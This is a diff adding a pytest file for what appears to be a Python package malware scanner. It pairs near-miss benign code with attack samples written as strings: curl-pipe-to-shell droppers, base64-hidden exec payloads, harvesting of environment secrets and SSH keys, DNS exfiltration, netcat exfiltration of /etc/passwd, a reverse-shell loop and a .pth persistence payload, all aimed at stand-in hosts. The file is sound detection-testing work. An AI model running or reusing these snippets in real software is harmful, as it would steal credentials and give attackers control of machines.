@@ -1,0 +1,460 @@
+"""Threat sinks (caplet._scan._sinks): every class of issue 16 as an attack, and its near misses.
+
+Each attack is written the way the issue describes the technique that got
+past the scanner; each near miss is benign code of the same shape found in
+the most downloaded packages (the false positives the issue names among
+them), so a rule that fires on both fails here.
+"""
+
+from __future__ import annotations
+
+import base64
+import textwrap
+
+import pytest
+
+from caplet._capabilities._model import NetHttpCapability, ProcExecCapability
+from caplet._findings import Finding, Severity
+from caplet._scan._model import ScanMode
+from caplet._scan._scanner import scan_source
+
+
+def danger(source: str, filename: str = "mod.py", mode: ScanMode = ScanMode.PACKAGE) -> set[str]:
+    findings = scan_source(textwrap.dedent(source), filename, mode=mode)
+    return {f.rule_id for f in findings if f.severity is Severity.DANGER}
+
+
+def findings_of(source: str, filename: str = "mod.py") -> list[Finding]:
+    return scan_source(textwrap.dedent(source), filename, mode=ScanMode.PACKAGE)
+
+
+# -- 1. computed names ----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # the CJK family: a builtin named by slices of str(oct)/str(hex)
+        """
+        甲 = str(oct)
+        乙 = str(hex)
+        getattr(__builtins__, 乙[20] + 乙[21] + 乙[20] + 甲[13])("print(1)")
+        """,
+        'vars(__builtins__)["".join(map(chr, [101, 120, 101, 99]))]("print(1)")\n',
+        'globals()["__builtins__"]["".join(reversed("lave"))]("1")\n',
+        "import operator, os\noperator.attrgetter('metsys'[::-1])(os)('id')\n",
+        "import importlib\nm = importlib.import_module(bytes([111, 115]).decode())\n",
+    ],
+)
+def test_a_builtin_or_api_named_by_computation_is_a_threat(source: str) -> None:
+    assert "CPL-THR-003" in danger(source)
+
+
+def test_getattr_with_a_parameter_is_how_libraries_dispatch() -> None:
+    assert not danger(
+        """
+        import builtins
+
+        def lookup(name):
+            return getattr(builtins, name)
+        """
+    )
+
+
+def test_pip_main_installing_a_second_stage_is_a_threat_but_pip_itself_is_not() -> None:
+    assert "CPL-THR-019" in danger('import pip\npip.main(["install", "https://x.example/s.tgz"])\n')
+    # pip's own entry point calls main() with the user's arguments
+    assert not danger("from pip._internal.cli.main import main\nmain(args)\n")
+    setup = 'import os\nos.system("pip install .")\nos.system("pip install -r requirements.txt")\n'
+    assert "CPL-THR-019" not in danger(setup, "setup.py")
+    assert "CPL-THR-019" in danger('import os\nos.system("pip install stage2")\n', "setup.py")
+
+
+# -- 2. a second stage in a string ---------------------------------------------------------------
+
+
+def test_python_source_in_a_string_written_and_started_is_a_second_stage() -> None:
+    found = danger(
+        """
+        import os, subprocess
+        PAYLOAD = "import urllib.request\\nurllib.request.urlopen('http://192.0.2.7/c')\\n"
+        target = os.path.join(os.getenv("APPDATA"), "upd.pyw")
+        with open(target, "w") as fh:
+            fh.write(PAYLOAD)
+        subprocess.Popen(["pythonw", target])
+        """
+    )
+    assert "CPL-THR-016" in found
+
+
+def test_exec_of_a_hex_escaped_bytes_constant_reports_what_the_bytes_do() -> None:
+    command = "import os;os.system('curl -s http://192.0.2.5/p.sh | sh')"
+    escaped = "".join(f"\\x{b:02x}" for b in command.encode())
+    found = danger(f'exec(b"{escaped}")\n')
+    assert {"CPL-THR-015", "CPL-THR-016"} <= found
+
+
+def test_a_base64_payload_is_decoded_and_its_threats_reported_at_the_exec() -> None:
+    code = b"import os\nos.system('curl -s http://192.0.2.9/x | sh')\n"
+    payload = base64.b64encode(code).decode()
+    findings = findings_of(f'import base64\nexec(base64.b64decode("{payload}"))\n')
+    inner = [f for f in findings if f.rule_id == "CPL-THR-015"]
+    assert inner, findings
+    assert inner[0].line == 2
+    assert "in Python source kept in a string" in inner[0].message
+
+
+def test_test_suites_running_snippets_with_processes_or_ctypes_are_not_second_stages() -> None:
+    assert not danger(
+        """
+        import subprocess, sys
+        code = "import subprocess\\nsubprocess.run(['true'])\\nimport ctypes\\n"
+        subprocess.run([sys.executable, "-c", code], check=True)
+        exec("import pickle\\npickle.loads(b'')")
+        """
+    )
+
+
+def test_a_snippet_reaching_a_local_test_server_is_not_a_second_stage() -> None:
+    assert not danger(
+        """
+        import subprocess, sys
+        CODE = "import urllib.request\\nurllib.request.urlopen('http://127.0.0.1:8000/')\\n"
+        subprocess.Popen([sys.executable, "-c", CODE])
+        """
+    )
+
+
+# -- 3. download and run ----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        """
+        import os, requests
+        exe = os.path.join(os.getenv("TEMP"), "a.exe")
+        with open(exe, "wb") as f:
+            f.write(requests.get("https://x.example/a.exe").content)
+        os.startfile(exe)
+        """,
+        """
+        import os, subprocess, tempfile, urllib.request
+        dst = os.path.join(tempfile.gettempdir(), name + ".bin")
+        urllib.request.urlretrieve("http://192.0.2.3/b", dst)
+        subprocess.Popen(dst)
+        """,
+        """
+        import os
+        from urllib.request import urlopen
+        d = os.path.expanduser("~/.x")
+        open(d, "wb").write(urlopen("http://192.0.2.4/x").read())
+        os.system("chmod +x " + d + " && " + d)
+        """,
+    ],
+)
+def test_a_downloaded_file_that_is_started_is_download_and_run(source: str) -> None:
+    assert "CPL-THR-002" in danger(source)
+
+
+def test_network_data_that_is_only_an_argument_is_not_a_download_run() -> None:
+    # rapidfuzz's benchmark: a version number from the index, passed to pip
+    assert not danger(
+        """
+        import json, subprocess, urllib.request
+        version = json.load(urllib.request.urlopen("https://pypi.example/json"))["version"]
+        subprocess.run(["pip", "install", f"rapidfuzz=={version}"], check=True)
+        """
+    )
+
+
+def test_a_port_from_a_socket_in_a_command_is_not_a_download() -> None:
+    assert not danger(
+        """
+        import socket, subprocess
+        s = socket.socket()
+        s.bind(("127.0.0.1", 0))
+        port = s.getsockname()[1]
+        subprocess.Popen(["server", "--port", str(port)])
+        """
+    )
+
+
+# -- 4. reconnaissance to any egress -------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # base64-hidden host, host name and user in the query
+        f"""
+        import base64, getpass, socket, requests
+        host = base64.b64decode("{base64.b64encode(b"c.example").decode()}").decode()
+        data = {{"h": socket.gethostname(), "u": getpass.getuser()}}
+        requests.get("https://" + host + "/p", params=data)
+        """,
+        # DNS exfiltration through ping
+        """
+        import binascii, os, platform, subprocess
+        data = binascii.hexlify(platform.node().encode()).decode()
+        subprocess.call(["ping", "-c", "1", data + ".x.collect.example"])
+        """,
+        # and through the resolver
+        """
+        import getpass, socket
+        socket.getaddrinfo(getpass.getuser() + ".d.resolve.example", 443)
+        """,
+        # a datagram to a fixed address
+        """
+        import json, socket
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        s.sendto(json.dumps({"h": socket.gethostname()}).encode(), ("192.0.2.23", 53))
+        """,
+    ],
+)
+def test_reconnaissance_reaching_an_egress_is_a_beacon(source: str) -> None:
+    assert "CPL-THR-017" in danger(source)
+
+
+def test_the_own_address_lookup_is_not_a_beacon() -> None:
+    assert not danger("import socket\naddr = socket.gethostbyname(socket.gethostname())\n")
+
+
+def test_the_whole_environment_walked_and_posted_is_harvesting() -> None:
+    found = danger(
+        """
+        import json, os, urllib.request
+        out = {}
+        for k in os.environ:
+            out[k] = os.environ[k]
+        body = json.dumps(out).encode()
+        urllib.request.urlopen(urllib.request.Request("https://m.example/e", data=body))
+        """
+    )
+    assert "CPL-THR-006" in found
+
+
+def test_provider_keys_read_beside_provider_urls_are_not_harvesting() -> None:
+    # the litellm false positive: one key per provider, each sent to its own API
+    assert not danger(
+        """
+        import os, requests
+
+        def openai(prompt):
+            key = os.environ.get("OPENAI_API_KEY")
+            return requests.post("https://api.openai.example/v1", json={"p": prompt},
+                                 headers={"Authorization": f"Bearer {key}"})
+
+        def anthropic(prompt):
+            key = os.environ.get("ANTHROPIC_API_KEY")
+            return requests.post("https://api.anthropic.example/v1", json={"p": prompt},
+                                 headers={"x-api-key": key})
+
+        def cohere(prompt):
+            key = os.getenv("COHERE_API_KEY")
+            return requests.post("https://api.cohere.example", json={"k": key})
+        """
+    )
+
+
+def test_several_secrets_sent_to_a_fixed_host_are_harvesting() -> None:
+    found = danger(
+        """
+        import http.client, json, os
+        body = {
+            "a": os.environ.get("AWS_ACCESS_KEY_ID"),
+            "s": os.environ.get("AWS_SECRET_ACCESS_KEY"),
+            "g": os.environ.get("GITHUB_TOKEN"),
+        }
+        c = http.client.HTTPSConnection("metrics.example")
+        c.request("POST", "/collect", json.dumps(body))
+        """
+    )
+    assert "CPL-THR-006" in found
+
+
+def test_credential_documentation_is_not_credential_access() -> None:
+    # the ansible-core false positive: a DOCUMENTATION string naming key files,
+    # and a "network" that is socket.gethostname()
+    assert not danger(
+        '''
+        import socket
+        DOCUMENTATION = """
+        options:
+          key_file:
+            description: Path to the key, for example ~/.ssh/id_rsa or /etc/shadow for the
+              password hashes; the module reads ~/.aws/credentials when asked to.
+        """
+        HOST = socket.gethostname()
+        '''
+    )
+
+
+def test_an_out_of_band_interaction_domain_with_host_data_is_exfiltration() -> None:
+    found = danger(
+        """
+        import platform, requests
+        requests.post("https://q8wz1k.oastify.com/r", data={"n": platform.node()})
+        """
+    )
+    assert "CPL-THR-004" in found
+
+
+# -- 5. decoders into every sink ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'import os, base64\nos.system(base64.b64decode("aWQ=").decode())\n',
+        "import codecs, subprocess\nsubprocess.Popen(codecs.decode('vq', 'rot13'), shell=True)\n",
+        "import subprocess\nsubprocess.check_output(bytes.fromhex('6964').decode(), shell=True)\n",
+        "K = 7\nE = 'abc'\neval(compile(bytes(c ^ K for c in E.encode()), '<m>', 'exec'))\n",
+        """
+        runner = exec
+
+        def decode(enc, key):
+            return "".join(chr(ord(c) ^ ord(key[i % len(key)])) for i, c in enumerate(enc))
+
+        def init():
+            runner(decode(ENC, KEY))
+        """,
+        "____ = eval\n_____ = getattr(__import__('base64'), 'b64decode')\n____(_____('MQ=='))\n",
+    ],
+)
+def test_decoded_data_reaching_any_sink_is_a_dropper(source: str) -> None:
+    assert "CPL-THR-001" in danger(source)
+
+
+def test_float_fromhex_and_encoding_are_not_decoding() -> None:
+    assert not danger(
+        """
+        import subprocess
+        x = eval(repr(float.fromhex("0x1.8p1")))
+        token = "abc".encode("base64") if False else b""
+        subprocess.Popen(["tool", token])
+        """
+    )
+
+
+# -- 6. payloads outside the Python rules -------------------------------------------------------
+
+
+def test_a_chat_bot_running_its_messages_is_remote_control() -> None:
+    found = danger(
+        """
+        import subprocess
+        from telegram.ext import ApplicationBuilder, CommandHandler
+
+        async def run(update, context):
+            await update.message.reply_text(subprocess.getoutput(update.message.text))
+
+        app = ApplicationBuilder().token(TOKEN).build()
+        app.add_handler(CommandHandler("run", run))
+        """
+    )
+    assert "CPL-THR-020" in found
+
+
+def test_a_socket_loop_running_what_it_receives_is_remote_control() -> None:
+    found = danger(
+        """
+        import socket, subprocess
+        s = socket.socket()
+        s.connect(("192.0.2.120", 8081))
+        while True:
+            cmd = s.recv(4096).decode()
+            s.sendall(subprocess.getoutput(cmd).encode())
+        """
+    )
+    assert "CPL-THR-020" in found
+
+
+# -- the rest of the held-out list ---------------------------------------------------------------
+
+
+def test_an_aliased_subprocess_piping_to_nc_is_exfiltration() -> None:
+    found = danger(
+        "import subprocess as fmt\n"
+        'fmt.Popen(["sh", "-c", "cat /etc/passwd | nc 192.0.2.33 4444"])\n'
+    )
+    assert "CPL-THR-017" in found
+
+
+def test_ssh_keys_posted_at_import_are_credential_theft() -> None:
+    found = danger(
+        """
+        import glob, os, requests
+        for p in glob.glob(os.path.join(os.path.expanduser("~"), ".ssh", "*")):
+            requests.post("https://k.example/u", files={"f": open(p, "rb")})
+        """
+    )
+    assert "CPL-THR-007" in found or "CPL-THR-005" in found
+
+
+def test_a_pth_file_written_with_a_shell_pipe_is_a_pth_payload() -> None:
+    found = danger(
+        """
+        import os, site
+        with open(os.path.join(site.getsitepackages()[0], "x.pth"), "w") as f:
+            f.write("import os; os.system('curl -s http://192.0.2.81/u | sh')\\n")
+        """
+    )
+    assert "CPL-THR-013" in found
+
+
+def test_a_copy_renamed_to_a_program_and_started_is_a_dropper_and_a_test_copy_is_not() -> None:
+    dropper = """
+    import os, shutil
+    src = os.path.join(os.path.dirname(__file__), "helper.py")
+    dst = os.path.join(os.environ["TEMP"], "helper.exe")
+    shutil.copy(src, dst)
+    os.startfile(dst)
+    """
+    assert "CPL-THR-018" in danger(dropper)
+    test = """
+    import os, shutil, subprocess
+    src = os.path.join(os.path.dirname(__file__), "setup-uv.sh")
+    dst = os.path.join(tmp, "setup-uv.sh")
+    shutil.copy(src, dst)
+    subprocess.run(["/bin/bash", "-c", f'. "{dst}"'])
+    """
+    assert "CPL-THR-018" not in danger(test)
+
+
+def test_advice_to_pipe_curl_into_a_shell_is_not_running_it() -> None:
+    # huggingface_hub and fastmcp print this in their help texts
+    assert not danger(
+        """
+        import subprocess
+        HINT = "uv is not installed. Please install it with: curl -LsSf https://x.example/i.sh | sh"
+        subprocess.run(["uv", "--version"])
+        """
+    )
+    run = 'import os\nos.system("curl -LsSf https://x.example/i.sh | sh")\n'
+    assert "CPL-THR-015" in danger(run)
+
+
+def test_an_encoded_powershell_command_is_decoded_and_read() -> None:
+    script = "iwr http://192.0.2.9/a.exe -OutFile $p; Start-Process $p"
+    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
+    source = (
+        f'import subprocess\nsubprocess.Popen(["powershell", "-EncodedCommand", "{encoded}"])\n'
+    )
+    found = danger(source)
+    assert "CPL-THR-015" in found
+
+
+# -- plugin mode: threats need no capability and none covers them --------------------------------
+
+
+def test_threats_are_danger_in_plugin_mode_whatever_is_declared() -> None:
+    everything = (
+        ProcExecCapability(program="sh", declared="proc.exec:sh"),
+        NetHttpCapability(scheme="https", host="x.example", port=443, path_prefix="", declared="x"),
+    )
+    source = 'import base64, os\nos.system(base64.b64decode("aWQ=").decode())\n'
+    findings = scan_source(source, "plugin.py", everything, mode=ScanMode.PLUGIN)
+    threat = next(f for f in findings if f.rule_id == "CPL-THR-001")
+    assert threat.severity is Severity.DANGER
+    assert not threat.covered
